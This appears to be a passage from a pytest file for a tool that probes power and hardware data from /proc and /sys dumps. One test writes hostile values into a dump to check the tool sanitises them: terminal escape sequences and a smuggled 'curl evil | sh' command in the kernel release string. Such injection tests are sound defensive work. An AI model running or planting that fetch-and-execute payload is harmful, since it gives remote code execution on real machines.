    assert told["status"] == again["status"] == ("ok" if machine == "altra-hwmon" else "fail")
    if machine == "server-powercap":
        zone = "sys/class/powercap/intel-rapl:1:0"
        assert os.readlink(dump / zone) == os.readlink(root / zone)
        assert (dump / "sys/class/powercap/intel-rapl-mmio:0/name").read_text() == "package-0\n"


def test_a_strangers_dump_cannot_write_to_the_terminal(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    cpuinfo = root / "proc/cpuinfo"
    cpuinfo.write_text(cpuinfo.read_text().replace("Platinum", "\033]0;owned\a"))
    (root / "proc/sys/kernel/osrelease").write_text("6.8.0-1; curl evil | sh\n")
    (root / "sys/class/dmi/id/product_name").write_bytes(b"c5.metal\x1b[2J\x9b2J\n")
    done = probe("--root", root)
    assert "\033" not in done.stdout and "\a" not in done.stdout
    assert not any("evil" in line for line in done.stdout.splitlines() if "$ " in line)


def test_an_ignored_module_is_not_loaded(broken_host):
    done, commands = broken_host("--fix=packages", "--ignore", "module.intel_rapl_msr", "--ignore", "module.rapl")
    assert commands == [] and "nothing here" in done.stderr


def test_arm_is_not_told_to_load_x86_modules(a_copy):
    root = a_copy("c5-metal-ubuntu-6.8-aws")
    (root / "proc/cpuinfo").write_text("".join(
        f"processor\t: {n}\nCPU implementer\t: 0x41\nCPU architecture: 8\nCPU part\t: 0xd40\n\n" for n in range(4)))
    (root / "proc/sys/kernel/arch").write_text("aarch64\n")
    found = on(root)
    assert not any(f["remedy"]["command"] for f in found["findings"])
    assert found["power"]["selected"] == "model"
